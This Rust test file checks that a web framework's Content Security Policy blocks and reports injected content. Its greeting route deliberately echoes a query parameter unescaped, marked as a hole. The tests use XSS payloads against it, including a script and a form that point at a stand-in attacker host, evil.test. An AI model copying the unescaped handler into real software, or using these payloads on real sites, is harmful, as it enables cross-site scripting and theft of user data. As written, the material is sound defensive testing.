//! What a page's policy makes the browser refuse, and report (F2).

use actix_web::web::{Html, Query};
use secure_runtime::{
    csp,
    edge::{self, CspNonce},
    prelude::*,
};
use serde_json::json;

use crate::{Browser, Site, log::Log};

#[validated]
struct Greeting {
    #[validate(length(max = 200))]
    name: String,
}

/// Greets in the words of whoever made the link, without escaping them: a hole.
#[get("/greet")]
#[public]
#[validated]
async fn greet(nonce: CspNonce, greeting: Query<Greeting>) -> Html {
    Html::new(format!(
        "<!doctype html><title>greeting</title><p>Hello, {name}!</p>
         <script {nonce}>window.ours = true</script>
         <style {nonce}>p {{ color: rgb(1, 2, 3) }}</style>",
        name = greeting.name,
        nonce = nonce.attribute(),
    ))
}

fn list(routes: &mut Routes) {
    routes.service(greet).service(edge::csp_reports);
}

fn link(injected: &str) -> String {
    let escaped: String = injected
        .bytes()
        .map(|byte| format!("%{byte:02x}"))
        .collect();
    format!("https://app.test/greet?name={escaped}")
}

#[actix_web::test]
async fn what_is_injected_into_a_page_does_not_run_and_is_reported() {
    let log = Log::shared();
    let (app, _) = Site::app(
        |settings| {
            settings.page_csp(csp!("default-src 'none'; script-src 'nonce'; style-src 'nonce'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'"))
        },
        list,
    );
    let foreign = Site::pages(&[("/evil.js", "window.stolen = true")]);
    let sites = [("app.test", app.address), ("evil.test", foreign.address)];
    let Some(browser) = Browser::open(&sites).await else {
        return;
    };
    // Our own run, and nobody complains.
    browser.visit(&link("Ada")).await;
    assert_eq!(browser.value("window.ours").await, json!(true));
    let color = browser.value("getComputedStyle(document.querySelector('p')).color");
    assert_eq!(color.await, json!("rgb(1, 2, 3)"));
    assert_eq!(browser.complaints().await, [""; 0]);

    let injected = [
        ("script-src-elem", "<script>window.stolen = true</script>"),
        (
            "script-src-elem",
            "<script nonce=guessed>window.stolen = true</script>",
        ),
        (
            "script-src-elem",
            "<script src=https://evil.test/evil.js></script>",
        ),
        (
            "script-src-attr",
            "<img src=/nothing onerror='window.stolen = true'>",
        ),
        (
            "style-src-elem",
            "<style>p { color: red ! important }</style>",
        ),
        ("style-src-attr", "<b style='color: red'>"),
        ("base-uri", "<base href=https://evil.test>"),
    ];
    for (directive, injected) in injected {
        browser.visit(&link(injected)).await;
        assert_eq!(
            browser.value("window.ours").await,
            json!(true),
            "{injected}"
        );
        assert_eq!(
            browser.value("window.stolen").await,
            json!(null),
            "{injected}"
        );
        let color = browser.value("getComputedStyle(document.querySelector('p')).color");
        assert_eq!(color.await, json!("rgb(1, 2, 3)"), "{injected}");
        let base = browser.value("document.baseURI.startsWith('https://app.test/greet')");
        assert_eq!(base.await, json!(true), "{injected}");
        browser.complaint("Content Security Policy").await;
        let line = log.line(&format!("directive=\"{directive}\"")).await;
        assert!(
            line.contains("a page broke its content security policy"),
            "{line}"
        );
        // The page's address, without what the attacker chose.
        assert!(line.contains("page=\"https://app.test/greet\""), "{line}");
    }
    browser.close().await;
}

/// A form that is injected does not send the reader's words elsewhere.
#[actix_web::test]
async fn an_injected_form_goes_nowhere_else() {
    let (app, _) = Site::app(|settings| settings, list);
    let foreign = Site::pages(&[("/take", "taken")]);
    let sites = [("app.test", app.address), ("evil.test", foreign.address)];
    let Some(browser) = Browser::open(&sites).await else {
        return;
    };
    let form = "<form action=https://evil.test/take><button id=go>Go</button></form>";
    browser.visit(&link(form)).await;
    let click = browser.value("document.getElementById('go').click()");
    click.await;
    browser.complaint("form-action").await;
    let address = browser.value("location.origin").await;
    assert_eq!(address, json!("https://app.test"));
    browser.close().await;
}
